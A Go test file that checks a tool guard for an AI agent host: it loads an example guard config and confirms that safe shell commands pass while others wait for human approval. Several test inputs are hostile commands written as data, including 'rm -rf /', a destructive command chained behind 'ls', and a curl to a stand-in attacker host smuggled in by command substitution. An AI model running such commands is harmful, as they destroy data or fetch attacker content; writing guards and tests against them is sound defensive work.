package toolhost

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"go.yaml.in/yaml/v4"

	"github.com/openclaw-go/openclaw/gateway/config"
	"github.com/openclaw-go/openclaw/policy"
)

// loadSeedGuard loads testdata/mateclaw/guard-seed.json5, MateClaw's
// example Tool Guard in our config, with no issue at all.
func loadSeedGuard(t *testing.T) *config.Snapshot {
	t.Helper()
	snap, err := config.Load(filepath.Join("..", "testdata", "mateclaw", "guard-seed.json5"), config.LoadOptions{Getenv: func(string) string { return "" }})
	if err != nil {
		t.Fatalf("load the seed's config: %v", err)
	}
	if len(snap.Warnings) > 0 {
		t.Fatalf("the seed's config loads with warnings: %v", snap.Warnings)
	}
	return snap
}

// TestMateClawGuardSeedIsTheSeed: the golden config says what MateClaw's
// own YAML says, key for key (kebab-case there, camelCase here).
func TestMateClawGuardSeedIsTheSeed(t *testing.T) {
	raw, err := os.ReadFile(filepath.Join("..", "testdata", "mateclaw", "guard-seed.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var seed struct {
		Mateclaw struct {
			Tool struct {
				Guard map[string]any `yaml:"guard"`
			} `yaml:"tool"`
		} `yaml:"mateclaw"`
	}
	if err := yaml.Unmarshal(raw, &seed); err != nil {
		t.Fatal(err)
	}
	fromYAML, err := json.Marshal(camelKeys(seed.Mateclaw.Tool.Guard))
	if err != nil {
		t.Fatal(err)
	}
	var want, got map[string]any
	if err := json.Unmarshal(fromYAML, &want); err != nil {
		t.Fatal(err)
	}
	ours, err := json.Marshal(loadSeedGuard(t).Config.Tools.Guard)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(ours, &got); err != nil {
		t.Fatal(err)
	}
	for k := range got { // keys the seed does not set keep their defaults
		if _, ok := want[k]; !ok {
			delete(got, k)
		}
	}
	rules, _ := got["rules"].([]any)
	for _, r := range rules {
		if m, ok := r.(map[string]any); ok && m["argPattern"] == "" {
			delete(m, "argPattern")
		}
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("tools.guard = %v\nthe seed says %v", got, want)
	}
}

// camelKeys renames default-policy to defaultPolicy and so on, all the way down.
func camelKeys(v any) any {
	switch v := v.(type) {
	case map[string]any:
		out := map[string]any{}
		for k, val := range v {
			parts := strings.Split(k, "-")
			for i := 1; i < len(parts); i++ {
				parts[i] = strings.ToUpper(parts[i][:1]) + parts[i][1:]
			}
			out[strings.Join(parts, "")] = camelKeys(val)
		}
		return out
	case []any:
		out := make([]any, len(v))
		for i, e := range v {
			out[i] = camelKeys(e)
		}
		return out
	}
	return v
}

// TestMateClawGuardSeedBehaves: the example config does what MateClaw's
// docs say of it: ShellExecuteTool may run ls, cat, grep and find, and
// anything else, or WriteFileTool, waits for a person; a command chained
// behind ls is not ls.
func TestMateClawGuardSeedBehaves(t *testing.T) {
	guard, err := NewGuard(loadSeedGuard(t).Config)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		tool, args string
		action     policy.Action
		rule       int
	}{
		{"exec", `{"command":"ls -la"}`, policy.ActionAllow, 0},
		{"ShellExecuteTool", `{"command":"grep -rn TODO ."}`, policy.ActionAllow, 0},
		{"exec", `{"command":"find . -name x -delete"}`, policy.ActionRequireApproval, 0}, // matched, raised as dangerous
		{"exec", `{"command":"rm -rf build"}`, policy.ActionRequireApproval, -1},
		{"exec", `{"command":"ls; rm -rf ~"}`, policy.ActionRequireApproval, -1},
		{"exec", `{"command":"ls $(curl -s https://evil.example)"}`, policy.ActionRequireApproval, -1},
		{"write", `{"path":"notes.md","content":"x"}`, policy.ActionRequireApproval, 1},
		{"read", `{"path":"notes.md"}`, policy.ActionRequireApproval, -1},
	}
	for _, tc := range cases {
		d := guard.Check(tc.tool, json.RawMessage(tc.args))
		if d.Action != tc.action || d.Rule != tc.rule {
			t.Errorf("Check(%s, %s) = %+v, want %s by rule %d", tc.tool, tc.args, d, tc.action, tc.rule)
		}
	}
}

// TestGuardEnabledFalse: enabled: false sets the rules and defaultPolicy
// aside; dangerous commands and skill changes still wait for a person, and
// a broken rule is still reported.
func TestGuardEnabledFalse(t *testing.T) {
	cfg := *loadSeedGuard(t).Config
	off := false
	cfg.Tools.Guard.Enabled = &off
	guard, err := NewGuard(&cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		tool, args string
		action     policy.Action
	}{
		{"write", `{"path":"notes.md","content":"x"}`, policy.ActionAllow},
		{"exec", `{"command":"make test"}`, policy.ActionAllow},
		{"exec", `{"command":"rm -rf /"}`, policy.ActionRequireApproval},
		{"skill_manage", `{}`, policy.ActionRequireApproval},
	} {
		if d := guard.Check(tc.tool, json.RawMessage(tc.args)); d.Action != tc.action {
			t.Errorf("Check(%s, %s) = %+v, want %s", tc.tool, tc.args, d, tc.action)
		}
	}
	cfg.Tools.Guard.Rules = append(cfg.Tools.Guard.Rules, config.GuardRule{Tool: "exec", ArgPattern: "(", Action: "deny"})
	if _, err := NewGuard(&cfg); err == nil {
		t.Error("a broken rule in a switched-off guard was not reported")
	}
}

// TestAgentsListToolsApply: per-agent tools written under agents.list[]
// (OpenClaw's docs' form) join the policy chain as agents.entries.<id> do:
// the agent's profile replaces the global one, its deny removes.
func TestAgentsListToolsApply(t *testing.T) {
	snap, err := config.Parse("agents-list.json5", []byte(`{
  tools: { profile: "coding" },
  agents: { list: [
    { id: "main", default: true },
    { id: "support", tools: { profile: "messaging", deny: ["sessions_send"] } },
  ] },
}`), config.LoadOptions{Getenv: func(string) string { return "" }})
	if err != nil {
		t.Fatal(err)
	}
	pc, err := PolicyConfig(snap.Config)
	if err != nil {
		t.Fatal(err)
	}
	var avail []policy.Tool
	for _, n := range []string{"exec", "read", "message", "sessions_send", "sessions_list"} {
		avail = append(avail, policy.Tool{Name: n})
	}
	resolve := func(agent string) policy.Decision {
		d, err := policy.Resolve(policy.Input{Agent: agent, Tools: avail, Config: pc})
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	if got := resolve("support").Allowed; !reflect.DeepEqual(got, []string{"message", "sessions_list"}) {
		t.Errorf("support's tools = %v, want [message sessions_list]", got)
	}
	if td := resolve("support").Tools["sessions_send"]; td.Allowed || td.Layer != "agents.entries.support.tools.deny" {
		t.Errorf("support's sessions_send = %+v", td)
	}
	if got := resolve("main").Allowed; !reflect.DeepEqual(got, []string{"exec", "read", "sessions_send", "sessions_list"}) {
		t.Errorf("main's tools = %v", got)
	}
}
